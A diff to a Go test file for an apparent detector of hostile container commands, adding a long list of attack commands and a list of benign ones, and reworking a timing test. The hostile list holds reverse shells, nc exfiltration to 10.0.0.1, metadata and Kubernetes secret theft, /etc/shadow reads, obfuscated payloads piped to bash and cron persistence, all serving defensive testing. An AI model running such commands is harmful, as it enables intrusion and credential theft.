@@ -3,12 +3,11 @@
 package command
 
 import (
+	"encoding/json"
+	"math"
 	"runtime"
 	"strings"
 	"testing"
-	"time"
-
-	"golang.org/x/sys/unix"
 )
 
 // What a command is given as its input decides what a shell does.
@@ -249,6 +248,264 @@ func TestNothingOpaque(t *testing.T) {
 	}
 }
 
+// What attackers run in containers, each of which reads something or cannot be judged.
+func TestSomethingRead(t *testing.T) {
+	for _, words := range [][]string{
+		{"sh", "-c", "tar -cf - -T /x | nc 10.0.0.1 80"},
+		{"sh", "-c", "base64 -w0 /run/secrets/kubernetes.io/serviceaccount/token"},
+		{"sh", "-c", "export A=cat; $A /etc/shadow"},
+		{"sh", "-c", "read -r c; $c"},
+		{"bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/443; cat <&5 | while read l; do $l 2>&5 >&5; done"},
+		{"sh", "-c", "php -r '$s=fsockopen(\"10.0.0.1\",1);'"},
+		{"busybox", "nc", "10.0.0.1", "443", "-e", "sh"},
+		{"sh", "-c", "find / -name '*.pem' -o -name id_rsa"},
+		{"find", "/", "-name", "*token*", "-exec", "cat", "{}", "+"},
+		{"grep", "-rlE", "AKIA[0-9A-Z]{16}", "/"},
+		{"grep", "-R", "password", "/var/www", "/etc"},
+		{"egrep", "-ri", "secret", "/home"},
+		{"sh", "-c", "cd /;grep -r token ."},
+		{"tar", "-zcvf", "/tmp/a.tgz", "/root", "/home"},
+		{"sh", "-c", "cd / && tar czf - *"},
+		{"sh", "-c", "tar czf - /r*"},
+		{"sh", "-c", "find . / -type f 2>/dev/null | cpio -ov"},
+		{"zip", "-r", "/tmp/x.zip", "/etc"},
+		{"rsync", "-avz", "/root/", "10.0.0.1::x"},
+		{"scp", "-r", "/home", "x@10.0.0.1:/"},
+		{"wget", "-O-", "--header", "X-aws-ec2-metadata-token: x", "http://instance-data/latest"},
+		{"curl", "-H", "Metadata: true", "http://169.254.169.254/metadata/identity/oauth2/token"},
+		{"curl", "http://169.254.170.23/v1/credentials"},
+		{"curl", "--connect-to", "::169.254.169.254:80", "http://x/"},
+		{"curl", "--resolve", "x:80:169.254.169.254", "http://x/"},
+		{"sh", "-c", "curl $AWS_CONTAINER_CREDENTIALS_FULL_URI"},
+		{"wget", "-qO-", "169.254.169.254.nip.io"},
+		{"sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc 169.254.169.254 80"},
+		{"python", "-c", "import requests;requests.get('http://[fd00:ec2::254]/latest')"},
+		{"sh", "-c", "aws ecr get-authorization-token"},
+		{"aws", "--profile", "x", "sts", "get-session-token"},
+		{"gcloud", "--quiet", "auth", "print-identity-token"},
+		{"az", "account", "get-access-token", "--resource", "x"},
+		{"kubectl", "--token=x", "get", "secret", "-n", "a"},
+		{"kubectl", "get", "-n", "kube-system", "secrets", "x"},
+		{"kubectl", "-n", "x", "create", "token", "default"},
+		{"kubectl", "get", "secrets.v1.", "-A"},
+		{"sh", "-c", "for s in $(kubectl get secrets -o name); do kubectl get $s; done"},
+		{"vault", "token", "lookup"},
+		{"cat", "/home/vault/.vault-token"},
+		{"sh", "-c", "cat /proc/$(pgrep app)/environ"},
+		{"sh", "-c", "strings /proc/1/environ"},
+		{"sh", "-c", "xargs -0 < /proc/1/environ"},
+		{"sh", "-c", "echo cm0gLXJmCg== | openssl base64 -d | bash"},
+		{"sh", "-c", "echo x | tr a-z n-za-m | sh"},
+		{"sh", "-c", "eval $(echo x | base64 --decode)"},
+		{"sh", "-c", "python3 <(curl x)"},
+		{"sh", "-c", "python3 - <<EOF\nimport os\nEOF"},
+		{"sh", "-c", "perl <<'EOF'\nprint 1\nEOF"},
+		{"sh", "-c", "echo 'print(1)' | python3"},
+		{"sh", "-c", "lua -e 'os.execute(\"id\")'"},
+		{"sh", "-c", "gawk 'BEGIN { s = \"/inet/tcp/0/10.0.0.1/1\"; while (1) { s |& getline c } }'"},
+		{"sh", "-c", "vim -c ':!sh'"},
+		{"ruby", "-e", "exec 'sh'"},
+		{"node", "-p", "1"},
+		{"sh", "-c", "x=$'\\x63\\x61\\x74'; $x /etc/shadow"},
+		{"sh", "-c", "$(tr '[A-Z]' '[a-z]' <<< CAT) /x"},
+		{"sh", "-c", "${PATH:0:1}bin${PATH:0:1}cat x"},
+		{"sh", "-c", "c${u}at /etc/sh${u}adow"},
+		{"sh", "-c", "w`echo g`et http://x"},
+		{"sh", "-c", "cat /etc/pass* /etc/sh?d*"},
+		{"sh", "-c", "cat /e''tc/s\"had\"ow"},
+		{"sh", "-c", "rev <<< wodahs/cte/ | xargs cat"},
+		{"sh", "-c", "sh /tmp/.x/run.sh"},
+		{"/dev/shm/x"},
+		{"sh", "-c", "wget -P /tmp http://x/a && chmod 777 /tmp/a && /tmp/a"},
+		{"sh", "-c", "curl -sL x -o- | sudo -E bash -"},
+		{"sh", "-c", "bash -c \"$(wget -qO- x)\""},
+		{"bash", "-c", "source /dev/stdin <<< \"$(curl x)\""},
+		{"sh", "-c", "nohup sh -c 'curl x|sh' &"},
+		{"sh", "-c", "(crontab -l; echo '* * * * * curl x|sh') | crontab -"},
+		{"nsenter", "--target", "1", "--mount", "--", "cat", "/etc/shadow"},
+		{"sh", "-c", "mount -t proc none /x; cat /x/1/environ"},
+		{"ctr", "-n", "k8s.io", "containers", "info", "x"},
+		{"crictl", "inspect", "x"},
+		{"docker", "inspect", "x"},
+		{"curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"},
+		{"curl", "-k", "https://127.0.0.1:10250/pods"},
+		{"curl", "-k", "https://kubernetes.default/api/v1/secrets"},
+		{"cat", "/var/lib/rancher/rke2/server/cred/admin.kubeconfig"},
+		{"cat", "/var/lib/kubelet/kubeconfig"},
+		{"cat", "/etc/kubernetes/manifests/kube-apiserver.yaml"},
+		{"sh", "-c", "sqlite3 /var/lib/rancher/k3s/server/db/state.db .dump"},
+		{"redis-cli", "config", "get", "requirepass"},
+		{"sh", "-c", "od -c /run/secrets/x"},
+		{"perl", "/tmp/x.pl"},
+		{"less", "/etc/shadow"},
+		{"sh", "-c", "while read l; do echo $l; done < /etc/shadow"},
+		{"sh", "-c", "echo $(</etc/shadow)"},
+		{"sh", "-c", "mapfile a < /etc/shadow"},
+		{"cp", "/etc/shadow", "/tmp/x"},
+		{"ln", "-s", "/etc/shadow", "/x"},
+		{"sh", "-c", "cat ~root/.ssh/id_rsa"},
+		{"sh", "-c", "xxd -p -r <<< 6964 | sh"},
+		{"sh", "-c", "openssl s_client -quiet -connect 10.0.0.1:1 | /bin/sh"},
+		{"sh", "-c", "at now <<< id"},
+		{"bash", "-c", "printf '%b' '\\151\\144' | bash"},
+		{"bash", "-c", "command -p $x"},
+		{"sh", "-c", "env $x"},
+		{"sh", "-c", "find /tmp -name x -exec sh {} \\;"},
+		{"cmd.exe", "/c", "type C:\\var\\run\\secrets\\kubernetes.io\\serviceaccount\\token"},
+		{"powershell", "-Command", "Get-Content C:\\x"},
+		{"powershell.exe", "Get-ChildItem", "Env:"},
+		{"cmd", "/c", "set"},
+	} {
+		if ReadsOf(words) == 0 {
+			t.Errorf("%q reads nothing", words)
+		}
+	}
+}
+
+// What honest software and people run as it is, also at a terminal.
+func TestNothingRead(t *testing.T) {
+	for _, words := range [][]string{
+		{"sh", "-c", "exec mysqladmin -uroot -p${MYSQL_ROOT_PASSWORD} ping"},
+		{"bash", "-ec", "PGPASSWORD=$POSTGRES_PASSWORD psql -w -U postgres -d postgres -h 127.0.0.1 -c 'SELECT 1'"},
+		{"bash", "-ec", "rabbitmq-diagnostics -q check_running && rabbitmq-diagnostics -q check_local_alarms"},
+		{"sh", "-c", "redis-cli -h localhost ping | grep -q PONG"},
+		{"sh", "-c", "/health/ping_readiness_local.sh 1"},
+		{"/bin/bash", "-ec", "exec pg_isready -U \"postgres\" -h 127.0.0.1 -p 5432\n[ -f /opt/bitnami/postgresql/tmp/.initialized ] || [ -f /bitnami/postgresql/.initialized ]"},
+		{"sh", "-c", "wget --no-verbose --tries=1 --spider http://localhost:9200/_cluster/health || exit 1"},
+		{"bash", "-c", "curl -s -u elastic:$ELASTIC_PASSWORD http://localhost:9200 | grep cluster"},
+		{"sh", "-c", "test \"$(curl -s -o /dev/null -w '%{http_code}' http://localhost/)\" = 200"},
+		{"sh", "-c", "ps aux | grep -v grep | grep -c nginx"},
+		{"sh", "-c", "ls -la /tmp"},
+		{"cat", "/tmp/healthy"},
+		{"rm", "-f", "/tmp/x"},
+		{"touch", "/tmp/x"},
+		{"sh", "-c", "cat /tmp/*.log"},
+		{"stat", "/tmp/ready"},
+		{"test", "-f", "/tmp/ready"},
+		{"sh", "-c", "df -h | awk 'NR==2{print $5}'"},
+		{"sh", "-c", "free -m | awk '/Mem/{print $3/$2}'"},
+		{"sh", "-c", "cat /etc/nginx/nginx.conf"},
+		{"nginx", "-T"},
+		{"supervisorctl", "status"},
+		{"sh", "-c", "tail -f /var/log/x.log | sed 's/^/x /'"},
+		{"psql", "-U", "x", "-c", "select version()"},
+		{"mysql", "-uroot", "-e", "show databases"},
+		{"mongo", "--eval", "db.stats()"},
+		{"sh", "-c", "mysqldump --all-databases -p\"$P\" | gzip -c > /backup/a.gz"},
+		{"sh", "-c", "pg_dumpall | gzip"},
+		{"bash", "-lc", "bundle exec rails console"},
+		{"bash", "-c", "cd /app && bin/rails db:migrate"},
+		{"python3", "-m", "pytest"},
+		{"python3", "-m", "json.tool"},
+		{"pip", "list"},
+		{"npm", "ls"},
+		{"php", "artisan", "migrate"},
+		{"composer", "install"},
+		{"node", "dist/main.js"},
+		{"sh", "-c", "kubectl get nodes -o wide"},
+		{"sh", "-c", "for p in $(seq 1 3); do curl -s localhost:8080/x; done"},
+		{"sh", "-c", "echo $HOSTNAME; uname -a"},
+		{"sh", "-c", "command -v bash >/dev/null && exec bash || exec sh"},
+		{"sh", "-c", "TERM=xterm-256color; export TERM; [ -x /bin/bash ] && ([ -x /usr/bin/script ] && /usr/bin/script -q -c \"/bin/bash\" /dev/null || exec /bin/bash) || exec /bin/sh"},
+		{"sh", "-c", "clear; (bash || ash || sh)"},
+		{"sh", "-c", "which bash curl"},
+		{"du", "-sh", "/var"},
+		{"ls", "-R", "/app"},
+		{"find", "/", "-xdev", "-size", "+100M"},
+		{"find", "/var/log", "-type", "f", "-exec", "truncate", "-s", "0", "{}", ";"},
+		{"tar", "xzf", "/app/x.tgz", "-C", "/"},
+		{"tar", "czf", "/backup/x.tgz", "/app"},
+		{"cp", "-r", "/app", "/backup"},
+		{"cp", "/etc/hosts", "/x"},
+		{"cat", "/etc/ssl/openssl.cnf"},
+		{"openssl", "enc", "-ciphers"},
+		{"base64", "/app/logo.png"},
+		{"jstack", "1"},
+		{"jcmd", "1", "Thread.print"},
+		{"jmap", "-histo", "1"},
+		{"kill", "1"},
+		{"sleep", "1"},
+		{"nproc"},
+		{"ip", "a"},
+		{"ss", "-tlnp"},
+		{"netstat", "-an"},
+		{"dig", "+short", "x"},
+		{"getent", "hosts", "db"},
+		{"ping", "-c1", "db"},
+		{"traceroute", "8.8.8.8"},
+		{"mount"},
+		{"lsof", "-i"},
+		{"id"},
+		{"whoami"},
+		{"date"},
+		{"uptime"},
+		{"top", "-bn1"},
+		{"ps", "-eo", "pid,cmd"},
+		{"ps", "-ef"},
+		{"ps", "aux"},
+		{"ps", "axf"},
+		{"pgrep", "-f", "x"},
+		{"etcdctl", "member", "list"},
+		{"etcdctl", "endpoint", "status"},
+		{"vault", "status"},
+		{"vault", "operator", "unseal"},
+		{"consul", "members"},
+		{"kafka-topics.sh", "--list"},
+		{"cqlsh", "-e", "x"},
+		{"nodetool", "status"},
+		{"ceph", "status"},
+		{"argocd", "app", "list"},
+		{"helm", "ls"},
+		{"cilium", "status"},
+		{"istioctl", "proxy-status"},
+		{"pilot-agent", "request", "GET", "stats"},
+		{"curl", "localhost:15000/config_dump"},
+		{"sh", "-c", "a=1; b=$a; echo $b"},
+		{"sh", "-c", "set -x; test -n \"$X\""},
+		{"bash", "-c", "trap 'exit 0' TERM; sleep 5 & wait"},
+		{"sh", "-c", "if ! [ -d /data/x ]; then mkdir -p /data/x; fi"},
+		{"sh", "-c", "case $1 in a) echo b;; esac"},
+		{"sh", "-c", "export PATH=$PATH:/x && app --version"},
+		{"sh", "-c", "date >> /data/log; sync"},
+		{"sh", "-c", "echo 1 > /proc/sys/vm/drop_caches"},
+		{"sh", "-c", "umask 077; app"},
+		{"sh", "-c", "[ \"$(id -u)\" = 0 ] && echo root"},
+		{"sh", "-c", "x=`date +%s`; echo $x"},
+		{"sh", "-c", "app 2>&1 | tee /var/log/app.log"},
+		{"sh", "-c", "sort /app/x | uniq -c | sort -rn | head"},
+		{"sh", "-c", "xargs -n1 -P4 curl -s < /app/urls"},
+		{"sh", "-c", "cat /app/version.json | jq -r .version"},
+		{"sh", "-c", "ls *.yaml"},
+		{"sh", "-c", "echo {1..3}"},
+		{"sh", "-c", "printf '%s\\n' a b"},
+		{"sh", "-c", "echo -e 'a\\nb'"},
+		{"sh", "-c", "\"$JAVA_HOME/bin/java\" -jar x.jar"},
+		{"sh", "-c", "$HOME/bin/app check"},
+		{"sh", "-c", "${APP_HOME}/bin/healthcheck"},
+		{"sh", "-c", "exec \"$@\"", "_", "ls", "/"},
+		{"sh", "-c", "sed -e '/^#/d' -e 's/a/b/' /app/x"},
+		{"sh", "-c", "sed -n '/start/,/end/p' /app/x"},
+		{"sh", "-c", "awk -F: '{print $1}' /etc/passwd"},
+		{"sh", "-c", "awk '/system/ {print}' /app/x"},
+		{"sh", "-c", "awk '$1 ~ /a|b/ {print $2}' x"},
+		{"sh", "-c", "perl -v"},
+		{"env", "TERM=xterm", "ls"},
+		{"timeout", "10", "curl", "-sf", "localhost"},
+		{"tini", "--", "app"},
+		{"su", "postgres", "-c", "psql -l"},
+		{"gosu", "app", "ls"},
+		{"chown", "-R", "app", "/data"},
+		{"chroot", "/app", "ls"},
+		{"watch", "-n1", "ls"},
+		{"nohup", "app"},
+		{"script", "-q", "-c", "ls", "/dev/null"},
+	} {
+		if found := ReadsOf(words) | ReadsWith(words, Terminal); found != 0 {
+			t.Errorf("%q reads %q", words, found.Names())
+		}
+	}
+}
+
 // What is longer or deeper than is looked at is not harmless.
 func TestOpaqueLength(t *testing.T) {
 	for name, words := range map[string][]string{
@@ -263,14 +520,15 @@ func TestOpaqueLength(t *testing.T) {
 	}
 }
 
-// maxJudged is what judging a command of 16 KiB may cost of one core, however it is
-// made. Where another program runs on the same core's other thread, each takes twice
-// its time.
-const maxJudged = 2 * 10 * time.Millisecond
+// maxJudged is how many times what encoding/json takes to look through 16 KiB judging a
+// command of that length may cost, however it is made.
+const maxJudged = 300
 
-// What a command costs to judge grows with its length, and is bounded.
+// What a command costs to judge is bounded, as is its length.
 func TestReadsCost(t *testing.T) {
-	var worst time.Duration
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+	var worst float64
 	for _, part := range []string{
 		"$(", "${", "`", "a$", "$((", "<(", "{a,b}", "{a,{", "a,", "{,", "'", "\"", "\\", "# ", "#", "$'\\x41", "a=$a$a;", "a=bb;$a", "${a:-/x}", "eval ", "sh -c ", "env ", "xargs ",
 		"sudo sh -c '", "1.2.3.4 ", "0x1.", "/a", "/*", "*/", "?", "[a", "| ", "||", "&& ", ";", "<", "<<", ">", "find / -exec ", "grep -r / ", "tar c ", "cd x;", "cd /x;", "for a in b; do ",
@@ -278,30 +536,30 @@ func TestReadsCost(t *testing.T) {
 	} {
 		script := strings.Repeat(part, maxCommand/len(part))
 		for _, words := range [][]string{{"sh", "-c", script}, {"awk", script}, {"sed", script}, {"python", "-c", script}, strings.Fields(script), {"curl", script}} {
-			used := judgingCost(words)
+			used := judgingCost(t, words)
 			worst = max(worst, used)
 			if used > maxJudged {
-				t.Errorf("%s of %q, 16 KiB: %s", words[0], part, used)
+				t.Errorf("%.100q, 16 KiB: %.0f times encoding/json", words, used)
 			}
 		}
 	}
-	t.Logf("the worst takes %v", worst)
+	t.Logf("the worst takes %.0f times encoding/json", worst)
 }
 
-// judgingCost is the processor's time that judging takes, the least of some tries or the first
-// that is not above what it may be.
-func judgingCost(words []string) time.Duration {
-	runtime.LockOSThread()
-	defer runtime.UnlockOSThread()
-	least := time.Hour
-	for range 9 {
-		var before, after unix.Timespec
-		_ = unix.ClockGettime(unix.CLOCK_THREAD_CPUTIME_ID, &before)
-		ReadsWith(words, Fed)
-		_ = unix.ClockGettime(unix.CLOCK_THREAD_CPUTIME_ID, &after)
-		if least = min(least, time.Duration(after.Nano()-before.Nano())); least <= maxJudged {
-			break
+// judgingCost is how many times encoding/json's time judging takes, the least of some
+// tries or the first that is not above what it may be.
+func judgingCost(t *testing.T, words []string) float64 {
+	value := []byte(`"` + strings.Repeat("x", maxCommand) + `"`)
+	least := math.Inf(1)
+	for try := 0; try < 20 && least > maxJudged; try++ {
+		// Measured in turn, so that both share what else the machine does.
+		begin := cpu(t)
+		for range 8 {
+			json.Valid(value)
 		}
+		between := cpu(t)
+		ReadsWith(words, Fed)
+		least = min(least, 8*float64(cpu(t)-between)/float64(between-begin))
 	}
 	return least
 }
@@ -317,9 +575,9 @@ func FuzzReadsCost(f *testing.F) {
 		}
 		script := head + strings.Repeat(part, maxCommand/len(part))
 		for _, words := range [][]string{{"sh", "-c", script}, strings.Fields(script)} {
-			// Coverage is counted while fuzzing, which takes several times as long.
-			if used := judgingCost(words); used > 10*maxJudged {
-				t.Errorf("%q, %q: %s", head, part, used)
+			// Coverage is counted while fuzzing, and not of encoding/json.
+			if used := judgingCost(t, words); used > 10*maxJudged {
+				t.Errorf("%q, %q: %.0f times encoding/json", head, part, used)
 			}
 		}
 	})
